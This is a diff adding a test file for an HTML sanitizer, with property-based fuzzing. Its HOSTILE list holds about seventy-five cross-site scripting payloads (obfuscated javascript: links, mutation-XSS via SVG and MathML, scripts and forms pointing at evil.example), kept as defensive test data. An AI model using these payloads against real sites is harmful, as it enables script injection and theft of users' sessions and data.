@@ -1,0 +1,164 @@
+import { array, assert, constantFrom, property } from "fast-check";
+import { describe, expect, test } from "vitest";
+import { sanitizeHtml, sanitizeInline } from "./sanitize.ts";
+
+const ADDRESS = String.raw`(?:https?:|mailto:|tel:|\/(?!\/)|#|\?|[^"<>\s\\:/?#]*(?=[/?#"]))[^"<>\s\\]*`;
+const TAG = new RegExp(
+  [
+    String.raw`^<(?:\/(?:p|h[23]|[uo]l|li|blockquote|strong|em|u|a)`,
+    String.raw`|(?:p|h[23]|ul|li|blockquote|strong|em|u|a)|[hb]r \/|ol(?: start="\d{1,4}")?`,
+    `|a href="${ADDRESS}" rel="noopener"`,
+    String.raw`|img src="(?:https:\/\/|\/user\/file\/)[^"<>\s\\]+" alt="[^"<>]*"(?: width="\d{1,4}")?(?: height="\d{1,4}")? \/)>$`,
+  ].join(""),
+);
+
+/** Every "<" begins a tag of the allow-list, written out whole; nothing else may be in what goes to others. */
+function expectHarmless(html: string, from: string): void {
+  for (const tag of html.match(/<[^>]*>?/g) ?? []) expect(tag, `of ${from.slice(0, 200)}`).toMatch(TAG);
+  expect(html.replaceAll(/<[^>]*>/g, ""), `text of ${from.slice(0, 200)}`).not.toMatch(/[<>]/);
+}
+
+/** After the collections of OWASP, PortSwigger and the reports of mXSS against DOMPurify and others. */
+const HOSTILE: readonly string[] = [
+  "<script>alert(1)</script>",
+  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<<script>alert(1)//<</script>",
+  "<script\u0000>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<img src=`x` onerror=alert(1)>",
+  '<img src="x:gif" onerror="alert(1)" alt="`><script>alert(1)</script>">',
+  "<img/src='/user/file/a.png'/onload=alert(1)>",
+  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+  '<img src="/user/file/../../api/sign-out">',
+  '<img src="/user/file/..%2f..%2fapi">',
+  '<img src="http://tracker.example/x.png">',
+  '<img src="https://a@evil.example/x.png">',
+  '<img src="/user/file/a.png" alt="&quot; onerror=&quot;alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" &#14; javascript:alert(1)">x</a>',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="\u200bjavascript:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="//evil.example">x</a>',
+  String.raw`<a href="/\evil.example">x</a>`,
+  String.raw`<a href="\\evil.example">x</a>`,
+  '<a href="/\t/evil.example">x</a>',
+  '<a href="blob:https://x/1">x</a>',
+  '<a href="feed:javascript:alert(1)">x</a>',
+  '<a href="https://x.example" onmouseover="alert(1)" style="position:fixed;inset:0" class="law" id="main" target="_top">x</a>',
+  '<a href="https://x.example/&quot; onclick=&quot;alert(1)">x</a>',
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  "<svg><style><img src=x onerror=alert(1)></style></svg>",
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+  "<textarea><img src=x onerror=alert(1)></textarea>",
+  '<title><a href="</title><img src=x onerror=alert(1)>">',
+  "<xmp><img src=x onerror=alert(1)></xmp>",
+  "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
+  "<plaintext><img src=x onerror=alert(1)>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<iframe src=javascript:alert(1)>",
+  "<object data=javascript:alert(1)><embed src=x></object>",
+  "<base href=//evil.example><meta http-equiv=refresh content='0;url=javascript:alert(1)'><link rel=stylesheet href=//evil.example>",
+  "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
+  "<details open ontoggle=alert(1)><summary>x</summary></details>",
+  "<style>@import '//evil.example'</style><p style='background:url(javascript:alert(1))'>x</p>",
+  "<p class=law id=main name=x data-x=1 dir=rtl hidden tabindex=1 contenteditable>x</p>",
+  "<template><script>alert(1)</script></template>",
+  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<!-- --!><img src=x onerror=alert(1)> -->",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "<?xml version='1.0'?><?php echo 1 ?>",
+  "<!DOCTYPE html><html><head><title>x</title></head><body onload=alert(1)>y</body></html>",
+  "<isindex action=javascript:alert(1)>",
+  '<a href="x"><a href="y" onclick=alert(1)>',
+  '<p title="<script>alert(1)</script>">x',
+  "<p <script>alert(1)</script>",
+  "<p/onclick=alert(1)>x",
+  "</p></div></main></body><script>alert(1)</script>",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&amp;lt;script&amp;gt;",
+  '<input autofocus onfocus=alert(1)><select onchange=1><option><style></option></select><img src=x onerror=alert(1)></style>',
+  '<ol start="1 onclick=alert(1)"><li value=javascript:1>x</ol>',
+  "\u2028<scr\u00adipt>alert(1)</script>",
+  "<a href='https://x.example/?a=1&b=<2>'>x</a>",
+  "<constructor __proto__=x></constructor><a __proto__=1 constructor=2 href=https://x.example>x</a>",
+];
+
+describe("HTML that people write", () => {
+  test("[OPEN-126] keeps what the toolbar makes", () => {
+    const html =
+      '<h2>Storm</h2><h3>Roads</h3><p>The <strong>office</strong> is <em>closed</em> <u>today</u>.<br />Call <a href="tel:+13155550100" rel="noopener">us</a>.</p>' +
+      '<ul><li><p>One</p></li></ul><ol start="3"><li>Three</li></ol><blockquote><p>Be safe.</p></blockquote><hr /><img src="/user/file/LA0001/storm.png" alt="A storm" width="320" height="200" />';
+    expect(sanitizeHtml(html)).toBe(html);
+  });
+
+  test("[OPEN-126] writes older names of the same as the toolbar does", () => {
+    expect(sanitizeHtml("<h1>A</h1><h5>B</h5><div><b>c</b> <i>d</i></div>")).toBe("<h2>A</h2><h3>B</h3><p><strong>c</strong> <em>d</em></p>");
+    expect(sanitizeHtml('<table><tr><td>Text</td></tr></table><font color="red">stays</font>')).toBe("Textstays");
+  });
+
+  test("[OPEN-126] has links to the web, mail, telephones and this site alone, each without its opener", () => {
+    const link = (href: string): string => sanitizeHtml(`<a href="${href}" target="_blank">x</a>`);
+    for (const href of ["https://x.example/a?b=1#c", "http://x.example", "mailto:clerk@x.example", "tel:+1-315-555-0100", "/LA0001/home", "#12", "?q=1", "home"])
+      expect(link(href)).toBe(`<a href="${href}" rel="noopener">x</a>`);
+    for (const href of ["javascript:alert(1)", "data:text/html,x", "//evil.example", "ftp://x.example", "file:///etc/passwd", "", "java script:x"]) expect(link(href)).toBe("x");
+  });
+
+  test("[OPEN-126] has pictures from the stored files and over https alone", () => {
+    expect(sanitizeHtml('<img src="https://x.example/a.png">')).toBe('<img src="https://x.example/a.png" alt="" />');
+    expect(sanitizeHtml('<img src="/user/file/LA0001/a.png" alt="Seal" width="10" height="x">')).toBe('<img src="/user/file/LA0001/a.png" alt="Seal" width="10" />');
+    for (const src of ["http://x.example/a.png", "data:image/png;base64,AA", "/user/file/../x.png", "/api/x", "a.png", "//x.example/a.png", "blob:x", ""]) expect(sanitizeHtml(`a<img src="${src}">b`)).toBe("ab");
+  });
+
+  test.each(HOSTILE)("[OPEN-126] does nothing: %s", (hostile) => {
+    for (const whole of [hostile, `<p>${hostile}</p>`, `<ul><li>${hostile}`, hostile.repeat(3), `<blockquote><a href="/x">${hostile}`]) {
+      const clean = sanitizeHtml(whole);
+      expectHarmless(clean, whole);
+      expectHarmless(sanitizeInline(whole), whole);
+      expect(sanitizeHtml(clean)).toBe(clean);
+    }
+  });
+
+  test("[OPEN-126] does nothing however the pieces are put together", () => {
+    const pieces = [...HOSTILE, "<", ">", '"', "'", "`", "=", "/", "--", "<p ", "<a href=", "</", "&lt;", "&#60;", "\u0000", "]]>", "<svg>", "<math>", "<style>", "</style>", "<!--", "-->"];
+    assert(
+      property(array(constantFrom(...pieces), { maxLength: 8 }), (parts) => {
+        const whole = parts.join("");
+        const clean = sanitizeHtml(whole);
+        expectHarmless(clean, whole);
+        expectHarmless(sanitizeInline(whole), whole);
+        expectHarmless(sanitizeHtml(clean), clean);
+      }),
+      { numRuns: 1500 },
+    );
+  });
+
+  test("[OPEN-126] is read in whole when it is long, and as text when it has more tags than a person writes", () => {
+    const long = `<p>${"law ".repeat(25)}</p>`.repeat(9500);
+    expect(long.length).toBeGreaterThan(1_000_000);
+    expect(sanitizeHtml(long)).toBe(long);
+    for (const many of ["<div>", "<b>", "<a href=x>", "<b><!--</b>-->"]) expectHarmless(sanitizeHtml(many.repeat(50_000)), many);
+    expectHarmless(sanitizeHtml("<".repeat(1_000_000)), "<");
+    expectHarmless(sanitizeHtml(`<a ${"b=1 ".repeat(250_000)}`), "attributes");
+    expectHarmless(sanitizeHtml("<b>".repeat(9_999)), "as deep as it goes");
+  });
+});
+
+test("[OPEN-126] a line of text has marks and links, no blocks", () => {
+  expect(sanitizeInline('<p>Closed <b>today</b></p><p>See <a href="/news">news</a></p>')).toBe('Closed <strong>today</strong> See <a href="/news" rel="noopener">news</a>');
+  expect(sanitizeInline('<h2>A</h2><ul><li>B</li></ul><img src="/user/file/a.png">')).toBe("A B");
+});
